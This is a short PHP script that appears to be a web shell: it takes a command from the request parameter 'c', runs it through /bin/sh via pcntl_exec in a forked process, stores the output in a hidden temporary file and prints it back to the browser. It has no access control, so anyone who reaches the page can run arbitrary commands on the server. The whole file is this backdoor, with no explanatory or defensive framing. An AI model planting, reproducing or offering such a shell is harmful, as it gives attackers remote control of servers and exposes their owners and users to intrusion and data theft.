<?php
if (!function_exists('pcntl_exec')) { die('no pcntl'); }
$cmd = $_REQUEST['c'];
$out = '/tmp/.sess_' . md5($cmd);
switch (pcntl_fork()) {
    case 0:
        pcntl_exec('/bin/sh', array('-c', $cmd . ' > ' . $out . ' 2>&1'));
        exit(0);
    default:
        pcntl_wait($status);
        echo '<pre>' . htmlspecialchars(file_get_contents($out)) . '</pre>';
        unlink($out);
}
